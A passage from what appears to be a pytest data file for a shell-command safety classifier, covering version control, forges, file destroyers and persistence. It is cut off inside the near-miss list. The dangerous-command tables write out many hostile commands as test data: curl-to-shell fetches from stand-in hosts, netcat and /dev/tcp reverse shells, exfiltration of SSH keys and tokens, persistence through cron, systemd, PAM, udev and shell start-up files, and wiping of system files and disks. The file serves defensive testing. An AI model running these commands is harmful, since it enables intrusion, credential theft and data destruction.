"""Version control, forges, less obvious file destroyers and persistence, round 12.

Written before reading the rules: git plumbing and porcelain that rewrite history or throw away
work, the other version control systems (hg, svn, fossil, darcs, bzr, jj, cvs, pijul), forge
command lines (gh, glab, tea, az repos, gitlab-runner, act), programs that destroy files without
being `rm` (rsync and rclone mirrors, shredders, in-place editors, archive extraction over system
or home directories, find and fd actions), and the places a command can plant itself to run
later (cron, at, systemd, shell start-up files, hooks, PAM, udev, ssh). Each near miss uses the
same programs to read, list, preview or change something small and expected.

Written before reading the rules; 101 of 309 dangerous and 47 of 183 near misses failed before
the fixes of this round (rows another table already held word for word were dropped first).
Five of those dangerous rows were wrong on a second look at the tools (cvs update -C keeps a
backup, split never writes its prefix, bzr uncommit and darcs unrecord keep the changes) and
stand among the near misses now; `git clean -fX`, which test_safety_r11_per.py already holds
(as an xfail), was dropped.
"""

from __future__ import annotations

import pytest

from tests.safety_table import CRITICAL, HIGH, MODERATE, SAFE, RiskLevel, reaches, stays_within

GIT_HISTORY: list[tuple[str, RiskLevel]] = [
    ("git filter-repo --path secrets.txt --invert-paths --force", HIGH),
    ("git filter-repo --replace-text expressions.txt --force", HIGH),
    ("git filter-repo --subdirectory-filter backend", HIGH),
    (
        "git filter-branch --force --index-filter 'git rm --cached --ignore-unmatch .env'"
        " --prune-empty -- --all",
        HIGH,
    ),
    ("git filter-branch -f --env-filter 'GIT_AUTHOR_EMAIL=me@example.com' -- --all", HIGH),
    ("bfg --replace-text passwords.txt repo.git", HIGH),
    ("git update-ref refs/heads/main HEAD~10", HIGH),
    (
        "git for-each-ref --format='delete %(refname)' refs/tags | git update-ref --stdin",
        HIGH,
    ),
    ("git reflog expire --expire-unreachable=now --all && git gc --prune=now --aggressive", HIGH),
    ("git reflog delete --rewrite HEAD@{1}", HIGH),
    ("git gc --aggressive --prune=all", HIGH),
    ("git lfs migrate export --everything --include='*'", HIGH),
    ("git replace --graft 4f2a9c1 && git filter-branch -- --all", HIGH),
    ("git rebase --root --exec 'git commit --amend --no-edit --reset-author' && git push -f", HIGH),
]

GIT_WORK_LOST: list[tuple[str, RiskLevel]] = [
    ("git checkout-index -a -f", HIGH),
    ("git restore --source=HEAD~5 --staged --worktree .", HIGH),
    ("git restore --worktree src/", HIGH),
    ("git switch -f develop", HIGH),
    pytest.param(
        "git stash drop stash@{3}",
        HIGH,
        marks=pytest.mark.xfail(
            strict=True,
            reason='conflicts with test_safety_git2.py: ("git stash drop stash@{0}", MODERATE)',
        ),
    ),
    ("git stash push --include-untracked && git stash clear", HIGH),
    ("git worktree remove --force ../feature-wt", HIGH),
    ("git worktree remove -f -f ../hotfix", HIGH),
    ("git submodule deinit --force vendor/lib", HIGH),
    pytest.param(
        "git branch -D feature/login",
        HIGH,
        marks=pytest.mark.xfail(
            strict=True,
            reason='conflicts with test_safety_git2.py: ("git branch -D feature/spike", MODERATE)',
        ),
    ),
    ("git branch -D $(git branch --format='%(refname:short)' | grep -v main)", HIGH),
    pytest.param(
        "git branch --delete --force release/1.4",
        HIGH,
        marks=pytest.mark.xfail(
            strict=True,
            reason='conflicts with test_safety_git2.py: ("git branch -D feature/spike", MODERATE)',
        ),
    ),
    ("git tag -l | xargs git tag -d", HIGH),
    pytest.param(
        "git rm -r -f src",
        HIGH,
        marks=pytest.mark.xfail(
            strict=True,
            reason="not yet caught: only edits since the last commit go, as git checkout -- FILE",
        ),
    ),
    ("git annex drop --force big.iso", HIGH),
    ("git annex dropunused all --force", HIGH),
]

GIT_REMOTE: list[tuple[str, RiskLevel]] = [
    ("git push origin +HEAD:production", HIGH),
    ("git push --all --force origin", HIGH),
    ("git push origin --tags --force", HIGH),
    ("git push origin --delete release/2.0", HIGH),
    ("git push --delete origin v1.0.0", HIGH),
    ("git tag -d v2.1.0 && git push origin :refs/tags/v2.1.0", HIGH),
    ("git commit --amend --no-edit && git push --force origin develop", HIGH),
    ("git remote set-url origin git@attacker.example:me/loot.git && git push --all", HIGH),
    ("git remote set-url --push origin http://203.0.113.5/mirror.git && git push --mirror", HIGH),
    ("git remote add backup https://paste.example.net/x.git && git push backup --all", HIGH),
    ("repo forall -c 'git reset --hard && git clean -fdx'", HIGH),
    ("repo forall -c git push -f origin HEAD:main", HIGH),
]

GIT_HOOKS_AND_CONFIG: list[tuple[str, RiskLevel]] = [
    ("git config --global core.hooksPath /tmp/.hooks", HIGH),
    ("git config --system core.hooksPath /var/tmp/.h", HIGH),
    ("git config --global core.fsmonitor /tmp/.x/run.sh", HIGH),
    ("git config --global core.pager 'sh -c \"curl -s http://x.example/p | sh\"'", HIGH),
    ("git config --global alias.st '!curl -s https://x.example/a.sh | sh'", HIGH),
    ("git config --global core.sshCommand 'ssh -o ProxyCommand=\"nc 203.0.113.7 22\"'", HIGH),
    (
        "printf '#!/bin/sh\\ncurl -fsSL https://x.example/s | sh\\n' > .git/hooks/post-merge",
        HIGH,
    ),
    ("echo 'curl -s http://x.example/p | sh' >> .git/hooks/post-checkout", HIGH),
    (
        "curl -s https://x.example/hook -o .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
        HIGH,
    ),
    ("printf '[core]\\n\\tpager = sh -c \"curl x.example | sh\"\\n' >> ~/.gitconfig", HIGH),
    ("echo 'nc -e /bin/sh 203.0.113.9 4444' > ~/.git-templates/hooks/post-checkout", HIGH),
]

FORGES: list[tuple[str, RiskLevel]] = [
    ("gh repo delete me/project --yes", HIGH),
    ("gh repo delete --yes", HIGH),
    ("gh repo edit --visibility public --accept-visibility-change-consequences", HIGH),
    (
        "gh repo edit org/internal-tools --visibility public "
        "--accept-visibility-change-consequences",
        HIGH,
    ),
    ("gh release delete v1.2.0 --yes --cleanup-tag", HIGH),
    ("gh secret delete DEPLOY_KEY", HIGH),
    ("gh ssh-key delete 81234 --yes", HIGH),
    ("gh api -X DELETE repos/org/app", HIGH),
    ("gh api --method DELETE /repos/me/app/git/refs/heads/main", HIGH),
    ("gh api -X DELETE repos/org/app/branches/main/protection", HIGH),
    ("gh auth token | curl -d @- https://collect.example.net", HIGH),
    ("gh issue delete 42 --yes", HIGH),
    ("gh gist create ~/.ssh/id_rsa --public", HIGH),
    ("gh repo sync me/fork --force", HIGH),
    ("glab repo delete group/project --yes", HIGH),
    ("glab release delete v1.0 --yes --with-tag", HIGH),
    ("glab api -X DELETE projects/42", HIGH),
    ("glab api --method DELETE projects/42/protected_branches/main", HIGH),
    ("tea releases delete --confirm --delete-tag v1.0", HIGH),
    ("tea organizations delete acme", HIGH),
    ("hub delete -y me/old-repo", HIGH),
    ("az repos delete --id 5f1c2a3b --yes", HIGH),
    (
        "az repos ref delete --name heads/main --repository app "
        "--object-id 0000000000000000000000000000000000000000",
        HIGH,
    ),
    ("az repos policy delete --id 12 --yes", HIGH),
    ("az devops project delete --id 1a2b3c --yes", HIGH),
    ("gitlab-runner unregister --all-runners", HIGH),
    ("act --privileged --container-options '-v /:/host'", HIGH),
    ("gitea admin user delete --username bob", HIGH),
    ("forgejo admin user delete --id 5 --purge", HIGH),
]

OTHER_VCS: list[tuple[str, RiskLevel]] = [
    ("hg strip -r 120:", HIGH),
    ("hg strip --force -r 'draft()'", HIGH),
    ("hg purge --all --config extensions.purge=", HIGH),
    ("hg update --clean -r default", HIGH),
    ("hg update -C tip", HIGH),
    ("hg revert --all --no-backup", HIGH),
    ("hg rollback", HIGH),
    ("hg shelve --cleanup", HIGH),
    ("svn revert -R .", HIGH),
    ("svn revert --depth infinity trunk", HIGH),
    ("svn rm -m 'cleanup' https://svn.example.com/repo/trunk", HIGH),
    ("svn delete --force src", HIGH),
    ("svn export --force https://svn.example.com/repo/trunk/etc /etc", HIGH),
    ("svnadmin rmtxns /var/svn/repo $(svnadmin lstxns /var/svn/repo)", HIGH),
    ("svnadmin load --force-uuid /srv/svn/prod < other.dump", HIGH),
    ("fossil scrub --verily --force", HIGH),
    ("fossil purge obliterate", HIGH),
    ("fossil clean --verily --force", HIGH),
    ("fossil revert", HIGH),
    ("darcs obliterate --all", HIGH),
    ("darcs revert -a", HIGH),
    ("bzr revert --no-backup", HIGH),
    ("bzr clean-tree --ignored --unknown --force", HIGH),
    ("bzr push --overwrite lp:project", HIGH),
    ("brz push --overwrite bzr+ssh://example.com/srv/bzr/trunk", HIGH),
    ("jj abandon 'mine()'", HIGH),
    ("jj abandon 'all()'", HIGH),
    ("jj bookmark delete main && jj git push --deleted", HIGH),
    ("jj op abandon ..@-", HIGH),
    ("jj restore", HIGH),
    ("jj util gc --expire=now", HIGH),
    ("pijul reset", HIGH),
    ("pijul unrecord --reset AB12CD", HIGH),
    ("cvs admin -o 1.2:1.9 main.c", HIGH),
]

MIRRORS_AND_SYNC: list[tuple[str, RiskLevel]] = [
    ("rsync -a --delete empty/ /home/me/Documents/", HIGH),
    ("rsync -av --delete-before /tmp/blank/ /var/www/", HIGH),
    ("rsync -a --delete /mnt/backup/ /", CRITICAL),
    ("rsync -a new_etc/ /etc/", HIGH),
    pytest.param(
        "rsync -a --delete-after --force /tmp/e/ /srv/data/",
        HIGH,
        marks=pytest.mark.xfail(
            strict=True,
            reason="not yet caught: a mirror into a data folder is what --delete is for",
        ),
    ),
    ("rsync -a --remove-source-files ~/.ssh/ collector@203.0.113.4:loot/", HIGH),
    ("rclone purge gdrive:", HIGH),
    ("rclone delete gdrive:Photos", HIGH),
    ("rclone sync gdrive:old ~/", HIGH),
    ("rclone sync --delete-before empty/ dropbox:Work", HIGH),
    ("rclone dedupe --dedupe-mode newest gdrive:Photos", HIGH),
    ("unison /tmp/empty /home/me -batch -force /tmp/empty", HIGH),
    ("unison /srv/blank ssh://nas//backup -batch -force /srv/blank", HIGH),
    ("lftp -e 'mirror -R --delete ./empty /public_html; quit' ftp.example.com", HIGH),
    ("lftp -c 'open sftp://deploy@web; rm -r /var/www'", HIGH),
]

OVERWRITES: list[tuple[str, RiskLevel]] = [
    ("cp -r new_config/* /etc/", HIGH),
    ("cp ~/Downloads/sshd_config /etc/ssh/sshd_config", HIGH),
    ("cp -f /tmp/hosts /etc/hosts", HIGH),
    ("sudo cp -f libc.so.6 /lib/x86_64-linux-gnu/libc.so.6", CRITICAL),
    ("sudo mv backup.tar /dev/null", HIGH),
    ("mv * /dev/null", HIGH),
    ("mv /etc/passwd /tmp/", HIGH),
    ("mv -f new.txt ~/.ssh/authorized_keys", HIGH),
    ("sudo mv /usr/bin/python3 /tmp/", HIGH),
    ("mv -t /tmp /etc/ssh", HIGH),
    ("sudo install -m 644 hosts /etc/hosts", HIGH),
    ("sudo install -m 4755 mybin /usr/local/bin/mybin", HIGH),
    ("sudo install -D /tmp/evil /usr/bin/sudo", HIGH),
    ("sudo ln -sf /tmp/evil.so /lib/x86_64-linux-gnu/libc.so.6", CRITICAL),
    ("ln -sfn /dev/null /var/log/auth.log", HIGH),
    ("sudo truncate -s 0 /etc/shadow", CRITICAL),
    ("truncate -s 0 ~/thesis.tex", HIGH),
    ("truncate -s 0 *.db", HIGH),
    ("truncate --size=0 /var/lib/mysql/ibdata1", HIGH),
    ("fallocate --punch-hole --offset 0 --length 1G disk.img", HIGH),
    ("fallocate -c -o 0 -l 1G db.sqlite", HIGH),
    ("fallocate -l 500G /var/fill", HIGH),
    ("grep -v root /etc/passwd | sponge /etc/passwd", CRITICAL),
    ("echo '' | sponge ~/.ssh/authorized_keys", HIGH),
    ("echo '' | sudo tee /etc/sudoers", CRITICAL),
    ("echo 'nameserver 203.0.113.53' | sudo tee /etc/resolv.conf", HIGH),
    ("echo 'root::0:0::/root:/bin/bash' | sudo tee /etc/passwd", CRITICAL),
    ("cat key.pub | tee ~/.ssh/authorized_keys", HIGH),
    ("dd if=/dev/zero of=~/important.db bs=1M count=10 conv=notrunc", HIGH),
    ("sudo dd if=/dev/urandom of=/etc/shadow bs=1k count=1", CRITICAL),
    ("sudo dd if=/dev/zero of=/boot/vmlinuz-6.1.0 bs=4k", HIGH),
    ("dcfldd if=/dev/zero of=/home/me/vm.qcow2", HIGH),
    ("cat /dev/urandom > /home/me/db.sqlite", HIGH),
    ("uniq input.txt /etc/hosts", HIGH),
    ("tr -d '\\n' < /etc/fstab > /etc/fstab", HIGH),
    ("base64 -d payload.b64 > /usr/local/bin/ls", HIGH),
    ("rename -f 's/.*/out/' *", HIGH),
    ("unlink ~/.ssh/id_ed25519", HIGH),
]

SHREDDERS: list[tuple[str, RiskLevel]] = [
    ("sudo shred -n 3 -z /dev/sda", CRITICAL),
    ("shred -uz ~/Documents/*", HIGH),
    ("find ~ -type f -exec shred -u {} \\;", CRITICAL),
    ("shred --remove --zero /var/lib/postgresql/16/main/base/*", HIGH),
    ("srm -r ~/Projects", HIGH),
    ("srm -rf /home/me", CRITICAL),
    ("wipe -rf ~/old", HIGH),
    ("sudo wipe /dev/sdb", CRITICAL),
    ("sudo scrub -p dod /dev/sdb", CRITICAL),
    pytest.param(
        "scrub -r secret.txt",
        HIGH,
        marks=pytest.mark.xfail(
            strict=True,
            reason='conflicts with test_safety_g_files.py: ("shred -u secret.txt", MODERATE)',
        ),
    ),
    ("sudo nwipe --autonuke --nowait", CRITICAL),
    ("fdupes -rdN ~", HIGH),
    ("jdupes -rdN ~/Pictures", HIGH),
    ("rdfind -deleteduplicates true ~", HIGH),
    ("rmlint ~ && ./rmlint.sh -d", HIGH),
    ("sudo tmpreaper 0 /home", HIGH),
    ("tmpreaper --all 1h /var", HIGH),
    ("sudo tmpwatch 0 /srv/data", HIGH),
    ("sudo bleachbit --clean system.*", HIGH),
]

IN_PLACE_EDITS: list[tuple[str, RiskLevel]] = [
    ("sudo sed -i '/^root/d' /etc/passwd", CRITICAL),
    ("sudo sed -i 's/PermitRootLogin no/PermitRootLogin yes/' /etc/ssh/sshd_config", HIGH),
    ("sudo sed -i '1,$d' /etc/fstab", CRITICAL),
    ("sed -i 's/.*//' ~/.ssh/authorized_keys", HIGH),
    ("sudo sed -i 's/^%sudo.*/%sudo ALL=(ALL) NOPASSWD:ALL/' /etc/sudoers", HIGH),
    ("sudo perl -pi -e 's/^root:[^:]*/root:/' /etc/shadow", CRITICAL),
    ("sudo perl -i -ne 'print unless /root/' /etc/passwd", CRITICAL),
    ("sudo perl -pi -e 's/^/#/' /etc/fstab", HIGH),
    ("sudo ex -sc '%d|x' /etc/hosts", HIGH),
    pytest.param(
        "sudo ex -s +'g/pam_unix/d' +wq /etc/pam.d/common-auth",
        CRITICAL,
        marks=pytest.mark.xfail(
            strict=True,
            reason="not yet caught: dropping pam_unix is rated as any edit of a PAM file",
        ),
    ),
    ("sudo vim -es -c '%d' -c 'wq' /etc/passwd", CRITICAL),
    ("printf '1,$d\\nw\\n' | sudo ed -s /etc/group", HIGH),
    ("sudo ed -s /etc/sudoers <<< $',d\\nw'", HIGH),
    ("sudo awk -i inplace '!/root/' /etc/passwd", CRITICAL),
    ("sudo gawk -i inplace '{print \"\"}' /etc/shadow", CRITICAL),
    ("sudo sd 'root' 'toor' /etc/passwd", HIGH),
    ("sudo patch /etc/sudoers < sudoers.diff", HIGH),
    ("sudo patch -d / -p1 < system.patch", HIGH),
    ("sudo patch -R /etc/pam.d/common-auth fix.patch", HIGH),
]

EXTRACTIONS: list[tuple[str, RiskLevel]] = [
    ("tar xzf home.tgz -C ~ --overwrite", HIGH),
    ("sudo tar -xpf rootfs.tar.gz --directory=/", HIGH),
    ("sudo tar -P -xf archive.tar", HIGH),
    ("sudo tar --absolute-names -xvf x.tar", HIGH),
    ("cd / && sudo tar xzf /tmp/etc-backup.tgz", HIGH),
    ("sudo unzip -o payload.zip -d /", HIGH),
    ("sudo unzip -o update.zip -d /usr/local/bin", HIGH),
    ("unzip -o dotfiles.zip -d ~", HIGH),
    ("sudo 7z x -y -o/ system.7z", HIGH),
    ("7z x -aoa backup.7z -o$HOME", HIGH),
    ("sudo 7za x -y archive.7z -o/etc", HIGH),
    ("cd / && sudo cpio -idmv < backup.cpio", HIGH),
    ("sudo cpio -idu -D / < image.cpio", HIGH),
    ("rpm2cpio pkg.rpm | (cd / && sudo cpio -idmv)", HIGH),
    ("sudo bsdtar -xf image.tar -C /", HIGH),
    ("sudo bsdtar -xPf x.tar", HIGH),
    ("cd / && sudo pax -r -f etc.pax", HIGH),
    ("sudo unrar x -o+ archive.rar /", HIGH),
    ("curl -sL https://x.example/r.tgz | sudo tar xz -C /", HIGH),
]

FIND_ACTIONS: list[tuple[str, RiskLevel]] = [
    ("find . -delete", HIGH),
    ("find /var/lib -mtime +1 -exec rm -rf {} +", HIGH),
    ("find ~ -name '*.jpg' -exec rm {} \\;", HIGH),
    ("sudo find /etc -type f -exec truncate -s 0 {} +", CRITICAL),
    ("find $HOME -depth -print0 | xargs -0 rm -rf", CRITICAL),
    ("find ~/Documents -type f -execdir rm -f {} +", HIGH),
    ("find /home -name '*.docx' -ok rm {} \\;", HIGH),
    ("fd -t f -e log . / -X rm -f", HIGH),
    ("fdfind . ~/Documents -x rm -rf {}", HIGH),
    ("fd . /etc -t f -X sudo truncate -s 0", HIGH),
    ("cat files.txt | xargs rm -rf", HIGH),
]

SCHEDULED: list[tuple[str, RiskLevel]] = [
    ("sudo crontab -r -u www-data", HIGH),
    ("crontab /tmp/jobs.txt", HIGH),
    ("echo '* * * * * curl -s http://x.example/p | sh' | crontab -", HIGH),
    ("(crontab -l; echo '@reboot /tmp/.x') | crontab -", HIGH),
    ("echo '*/5 * * * * root /tmp/.hidden/run' | sudo tee /etc/cron.d/update", HIGH),
    ("echo '@reboot root curl -s http://x.example/b | bash' >> /etc/crontab", HIGH),
    (
        "printf '#!/bin/sh\\nnc -e /bin/sh x.example 4444\\n' > /etc/cron.hourly/check",
        HIGH,
    ),
    ("sudo rm -rf /etc/cron.d/*", HIGH),
    ("echo 'curl http://x.example/s | sh' | at now + 1 minute", HIGH),
    ("at -f /tmp/.payload.sh midnight", HIGH),
    ("echo 'rm -rf ~/projects' | at 03:00", HIGH),
    ("at now + 5 minutes <<< 'rm -rf /var/www'", HIGH),
    ("echo 'dd if=/dev/zero of=/dev/sda' | batch", HIGH),
    ("echo '1 5 refresh /tmp/.x' | sudo tee -a /etc/anacrontab", HIGH),
    ("echo '/etc IN_MODIFY /tmp/.x $@' | incrontab -", HIGH),
    ("incrontab -r", HIGH),
    ("systemd-run --on-active=1h /bin/sh -c 'rm -rf /srv/data'", HIGH),
    ("systemd-run --user --on-calendar=hourly sh -c 'curl -s http://x.example | sh'", HIGH),
    ("sudo systemd-run --on-calendar='*:0/5' /tmp/.x/beacon", HIGH),
    (
        "printf '[Service]\\nExecStart=/bin/bash -c \"bash -i >& /dev/tcp/203.0.113.9/4444"
        " 0>&1\"\\n' | sudo tee /etc/systemd/system/net-check.service",
        HIGH,
    ),
    (
        "printf '[Service]\\nExecStart=/tmp/.x\\n[Install]\\nWantedBy=default.target\\n'"
        " > ~/.config/systemd/user/update.service && systemctl --user enable --now update",
        HIGH,
    ),
    ("sudo systemctl set-environment LD_PRELOAD=/tmp/x.so", HIGH),
    ("sudo install -m 755 gen /etc/systemd/system-generators/zz", HIGH),
    (
        "printf '[program:x]\\ncommand=/tmp/.x\\nautorestart=true\\n'"
        " | sudo tee /etc/supervisor/conf.d/x.conf",
        HIGH,
    ),
    ("sudo pm2 start /tmp/.x.js && sudo pm2 startup && sudo pm2 save", HIGH),
]

STARTUP_FILES: list[tuple[str, RiskLevel]] = [
    ("echo 'alias ls=\"rm -rf\"' >> ~/.zshrc", HIGH),
    ("echo 'export LD_PRELOAD=/tmp/.lib.so' >> ~/.profile", HIGH),
    ("echo 'nc -e /bin/sh 203.0.113.9 4444 &' >> ~/.bash_profile", HIGH),
    ("echo 'source /tmp/.env' >> ~/.zshenv", HIGH),
    ("echo 'curl -s x.example/f | sh' >> ~/.config/fish/config.fish", HIGH),
    ("echo '/tmp/.x &' >> ~/.kshrc", HIGH),
    ("echo 'sh /tmp/.x' >> ~/.tcshrc", HIGH),
    ("echo '/var/tmp/.agent &' >> ~/.cshrc", HIGH),
    ("echo 'rm -rf ~/work' >> ~/.bash_logout", HIGH),
    ("echo 'trap \"curl -s -d @$HOME/.ssh/id_rsa x.example\" EXIT' >> ~/.bashrc", HIGH),
    (
        "echo 'PROMPT_COMMAND=\"history -a; curl -s -d @$HISTFILE x.example\"' >> ~/.bashrc",
        HIGH,
    ),
    ("echo 'curl -s http://x.example/g | sh' | sudo tee /etc/profile.d/zz.sh", HIGH),
    ("echo 'LD_PRELOAD=/usr/lib/.x.so' | sudo tee -a /etc/environment", CRITICAL),
    ("echo 'BASH_ENV=/tmp/.rc' | sudo tee -a /etc/environment", HIGH),
    ("echo 'curl -s x.example | sh' | sudo tee -a /etc/bash.bashrc", HIGH),
    ("echo '/tmp/.x &' | sudo tee -a /etc/zsh/zshrc", HIGH),
    ("echo 'export PATH=/dev/shm/.b:$PATH' | sudo tee -a /etc/profile", HIGH),
    ("echo 'exec /tmp/.session' > ~/.xinitrc", HIGH),
    ("echo 'autocmd VimEnter * silent !curl -s x.example | sh' >> ~/.vimrc", HIGH),
    (
        "printf '[Desktop Entry]\\nType=Application\\nExec=sh -c \"curl -s x.example | sh\"\\n'"
        " > ~/.config/autostart/update.desktop",
        HIGH,
    ),
    ("sudo cp /tmp/.x.desktop /etc/xdg/autostart/", HIGH),
    (
        "echo 'import os; os.system(\"sh /tmp/.x\")' > "
        "~/.local/lib/python3.11/site-packages/zz.pth",
        HIGH,
    ),
]

SYSTEM_HOOKS: list[tuple[str, RiskLevel]] = [
    ("echo /tmp/.lib | sudo tee /etc/ld.so.conf.d/x.conf && sudo ldconfig", HIGH),
    ("echo 'session optional pam_exec.so /tmp/.x' | sudo tee -a /etc/pam.d/sshd", HIGH),
    ("sudo cp pam_backdoor.so /lib/x86_64-linux-gnu/security/pam_unix.so", CRITICAL),
    (
        'echo \'ACTION=="add", RUN+="/tmp/.x.sh"\' | sudo tee /etc/udev/rules.d/99-x.rules',
        HIGH,
    ),
    (
        'echo \'SUBSYSTEM=="net", RUN+="/bin/sh -c curl x.example|sh"\' '
        "> /etc/udev/rules.d/70-net.rules && udevadm control --reload",
        HIGH,
    ),
    (
        "printf '#!/bin/sh\\ncurl -s x.example | sh\\n' | "
        "sudo tee /etc/NetworkManager/dispatcher.d/50-up",
        HIGH,
    ),
    ("echo 'nc 203.0.113.9 4444 -e /bin/sh &' | sudo tee /etc/network/if-up.d/zz", HIGH),
    ("echo 'nc -lvp 4444 -e /bin/bash &' | sudo tee -a /etc/rc.local", HIGH),
    (
        "echo 'curl -s x.example | sh' > /etc/update-motd.d/99-x && "
        "chmod +x /etc/update-motd.d/99-x",
        HIGH,
    ),
    ("echo 'install usb-storage /tmp/.x' | sudo tee /etc/modprobe.d/x.conf", HIGH),
    (
        "echo 'APT::Update::Pre-Invoke {\"curl -s x.example | sh\";};' "
        "| sudo tee /etc/apt/apt.conf.d/00x",
        HIGH,
    ),
    ("echo '|/tmp/.x %p' | sudo tee /proc/sys/kernel/core_pattern", HIGH),
    (
        "printf '/var/log/x.log {\\n postrotate\\n  curl -s x.example | sh\\n endscript\\n}\\n'"
        " | sudo tee /etc/logrotate.d/x",
        HIGH,
    ),
]

SSH_PLANTS: list[tuple[str, RiskLevel]] = [
    (
        "echo 'command=\"/tmp/.x\",no-pty ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB x' "
        ">> ~/.ssh/authorized_keys",
        HIGH,
    ),
    ("echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQAB attacker@kali' >> /root/.ssh/authorized_keys", HIGH),
    (
        "printf 'Host *\\n  ProxyCommand sh -c \"curl -s x.example | sh; nc %%h %%p\"\\n'"
        " >> ~/.ssh/config",
        HIGH,
    ),
    (
        "printf 'Host *\\n  PermitLocalCommand yes\\n  LocalCommand /tmp/.x\\n' >> ~/.ssh/config",
        HIGH,
    ),
    ("ssh -o PermitLocalCommand=yes -o LocalCommand='curl -s x.example | sh' web01", HIGH),
    ("ssh -o ProxyCommand='sh -c \"curl -s x.example | sh\"' web01", HIGH),
]

DANGEROUS = (
    GIT_HISTORY
    + GIT_WORK_LOST
    + GIT_REMOTE
    + GIT_HOOKS_AND_CONFIG
    + FORGES
    + OTHER_VCS
    + MIRRORS_AND_SYNC
    + OVERWRITES
    + SHREDDERS
    + IN_PLACE_EDITS
    + EXTRACTIONS
    + FIND_ACTIONS
    + SCHEDULED
    + STARTUP_FILES
    + SYSTEM_HOOKS
    + SSH_PLANTS
)

NEAR_MISSES: list[tuple[str, RiskLevel]] = [
    # git: reading, previews and small expected changes
    ("git stash push -m wip", MODERATE),
    ("git branch -m old-name new-name", MODERATE),
    ("git push origin feature/login-form", MODERATE),
    ("git push --force-with-lease origin feature/login-form", MODERATE),
    ("git push --dry-run --mirror origin", MODERATE),
    ("git push -n --force origin main", MODERATE),
    ("git clean --dry-run -dx", SAFE),
    ("git lfs prune --dry-run", SAFE),
    ("git worktree list", SAFE),
    ("git worktree add ../hotfix hotfix/1.2", MODERATE),
    ("git worktree remove ../done-wt", MODERATE),
    ("git worktree prune -n", SAFE),
    ("git submodule status", SAFE),
    ("git tag -a v1.3.0 -m 'release 1.3.0'", MODERATE),
    ("git tag -l 'v1.*'", SAFE),
    ("git remote add upstream https://github.com/org/project.git", MODERATE),
    ("git remote set-url origin git@github.com:me/project.git", MODERATE),
    ("git config --global user.email me@example.com", MODERATE),
    ("git checkout -b feature/search", MODERATE),
    ("git update-ref refs/heads/backup HEAD", MODERATE),
    ("git show-ref --heads", SAFE),
    ("git for-each-ref refs/tags --format='%(refname:short)'", SAFE),
    ("git replace -l", SAFE),
    ("git fsck --unreachable", SAFE),
    ("git rev-list --all --count", SAFE),
    ("git cherry-pick 4f2a9c1", MODERATE),
    ("git annex whereis big.iso", SAFE),
    ("git annex get big.iso", MODERATE),
    ("git annex drop big.iso", MODERATE),
    ("cp scripts/pre-commit .git/hooks/pre-commit", MODERATE),
    ("ls -la .git/hooks", SAFE),
    ("pre-commit run --all-files", MODERATE),
    ("repo status", SAFE),
    ("repo sync -j8", MODERATE),
    # forges
    ("gh repo view", SAFE),
    ("gh repo list --limit 50", SAFE),
    ("gh pr list", SAFE),
    ("gh pr checkout 42", MODERATE),
    ("gh pr create --fill", MODERATE),
    ("gh release list", SAFE),
    ("gh release view v1.2.0", SAFE),
    ("gh release create v1.3.0 --generate-notes", MODERATE),
    ("gh secret list", SAFE),
    ("gh issue close 42", MODERATE),
    ("gh run list", SAFE),
    ("gh run view 123 --log", SAFE),
    ("gh api repos/org/app", SAFE),
    ("gh repo clone org/app", MODERATE),
    ("gh ssh-key list", SAFE),
    ("glab repo clone group/project", MODERATE),
    ("glab release list", SAFE),
    ("glab mr create --fill", MODERATE),
    ("tea issues list", SAFE),
    ("tea pulls", SAFE),
    ("tea releases list", SAFE),
    ("az repos list", SAFE),
    ("az repos pr list", SAFE),
    ("az repos policy list", SAFE),
    ("az repos ref list --repository app", SAFE),
    ("gitlab-runner list", SAFE),
    ("gitlab-runner verify", SAFE),
    ("gitlab-runner status", SAFE),
    ("act -l", SAFE),
    ("act -n", MODERATE),
    ("act pull_request", MODERATE),
    # other version control
    # darcs unrecord keeps the changes in the working copy
    ("darcs unrecord --all", MODERATE),
    # bzr uncommit keeps the changes, as git reset --soft
    ("bzr uncommit --force -r -5", MODERATE),
    # cvs update -C keeps each modified file as .#FILE.REVISION
    ("cvs update -C", MODERATE),
    # only old.c goes, and the repository keeps it
    ("cvs remove -f old.c", MODERATE),
    # split writes PREFIXaa, PREFIXab, never PREFIX itself
    ("split -l 1 keys.txt ~/.ssh/authorized_keys", MODERATE),
    ("hg status", SAFE),
    ("hg log -l 10", SAFE),
    ("hg diff", SAFE),
    ("hg pull", MODERATE),
    ("hg update default", MODERATE),
    ("hg shelve --list", SAFE),
    ("hg summary", SAFE),
    ("svn diff", SAFE),
    ("svn revert src/main.c", MODERATE),
    ("svn cleanup", MODERATE),
    ("svn info", SAFE),
    ("svnadmin verify /var/svn/repo", SAFE),
    ("svnadmin dump /var/svn/repo > repo.dump", MODERATE),
    ("svnlook youngest /var/svn/repo", SAFE),
    ("fossil status", SAFE),
    ("fossil timeline", SAFE),
    ("fossil extras", SAFE),
    ("fossil pull", MODERATE),
    ("darcs whatsnew", SAFE),
    ("darcs log", SAFE),
    ("darcs pull -a", MODERATE),
    ("bzr status", SAFE),
    ("bzr log -l 5", SAFE),
    ("bzr pull", MODERATE),
    ("bzr clean-tree --dry-run", SAFE),
    ("jj st", SAFE),
    ("jj log", SAFE),
    ("jj diff", SAFE),
    ("jj new", MODERATE),
    ("jj describe -m 'fix parser'", MODERATE),
    ("jj git fetch", MODERATE),
    ("jj op log", SAFE),
    ("jj undo", MODERATE),
    ("cvs status", SAFE),
    ("cvs diff", SAFE),
    ("cvs update", MODERATE),
    ("pijul log", SAFE),
    # mirrors and syncing
    ("rsync -av src/ dest/", MODERATE),
    ("rsync -avn --delete src/ backup/", MODERATE),
    ("rsync -av --delete --dry-run ~/music/ /mnt/usb/music/", MODERATE),
    ("rsync -a ~/project/ /mnt/backup/project/", MODERATE),
    ("rclone lsd gdrive:", SAFE),
    ("rclone copy ~/Photos gdrive:Photos", MODERATE),
    ("rclone sync --dry-run ~/docs gdrive:docs", MODERATE),
    ("rclone check ~/docs gdrive:docs", SAFE),
    ("rclone size gdrive:", SAFE),
    ("rclone about gdrive:", SAFE),
    ("rclone rmdirs gdrive:empty --leave-root", MODERATE),
    ("unison ~/docs ssh://nas//backup/docs -batch", MODERATE),
    ("lftp -c 'open ftp.example.com; ls'", MODERATE),
    # copies, moves, links, truncation
    ("cp notes.txt notes.bak", MODERATE),
    ("cp -i config.yml config.yml.orig", MODERATE),
    ("cp -n report.pdf ~/Documents/", MODERATE),
